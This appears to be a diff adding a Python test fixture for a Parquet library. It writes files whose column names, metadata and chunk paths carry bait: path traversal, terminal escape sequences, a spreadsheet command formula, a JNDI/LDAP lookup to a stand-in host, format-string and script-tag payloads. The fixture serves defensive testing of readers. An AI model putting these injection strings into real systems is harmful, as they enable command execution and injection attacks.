@@ -1,0 +1,68 @@
+"""Files whose names are bait: of modules, of files, of hosts, of codes that a terminal obeys. All of them are read as usual."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any, ClassVar, Final
+
+import pyarrow as pa
+from pyarrow import parquet
+
+import inlay
+from inlay.encoding import Encodings
+from inlay.encoding.choose import choose_columns
+from inlay.encoding.on_files import add_to_file
+from inlay.encoding.pco import Pco
+from inlay.footer.trailer import tail_of
+
+pq: Final[Any] = parquet
+MODULE: Final = "inlay_bait"
+"""A module that can be imported where the commands run."""
+
+HOST: Final = "bait.invalid"
+FILE: Final = "bait_to_open"
+NAMES: Final = (
+    f"{MODULE}:take",
+    f"http://{HOST}/column",
+    f"s3://{HOST}/column",
+    f"../{FILE}",
+    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
+    "\u202eleft\u202c",
+    "\r\n::error file=x::no",
+    "=cmd|' /C calc'!A0",
+    "{{7*7}}${jndi:ldap://bait.invalid/a}",
+    "%s%s%n",
+    "<script>document.title = 1</script>",
+)
+
+
+class Bait(Pco):
+    """An encoding that is called like the module."""
+
+    name: ClassVar[str] = MODULE
+
+
+def write_baited_files(folder: Path) -> list[Path]:
+    """Names of columns and key-values; files of other columns; an encoding that nobody has."""
+    names = folder / "names.parquet"
+    columns = {name: pa.array([f"{name} {at}" for at in range(4)]) for name in NAMES}
+    table = pa.table({**columns, "at": pa.array(range(4))})
+    said = {"pandas": f'{{"creator": {{"library": "{MODULE}"}}, "index_columns": ["{MODULE}"]}}'}
+    said |= {f"{name} {at}": name for at, name in enumerate(NAMES)}
+    pq.write_table(table.replace_schema_metadata(said), names, write_page_index=True)
+    footer = inlay.open(names)
+    metadata = footer.metadata
+    metadata.created_by = NAMES[4]
+    body = names.read_bytes()[: footer.offset]
+    names.write_bytes(body + tail_of(metadata.encode()))
+
+    elsewhere = folder / "elsewhere.parquet"
+    for at, chunk in enumerate(metadata.row_groups[0].columns):
+        chunk.file_path = (f"../{FILE}", f"http://{HOST}/data", f"file:///{FILE}")[at % 3]
+    elsewhere.write_bytes(body + tail_of(metadata.encode()))
+
+    encoded = folder / "encoded.parquet"
+    pq.write_table(table.select(["at"]), encoded)
+    bait = Bait()
+    add_to_file(str(encoded), choose_columns(["at"], bait), encodings=Encodings(bait))
+    return [names, elsewhere, encoded]
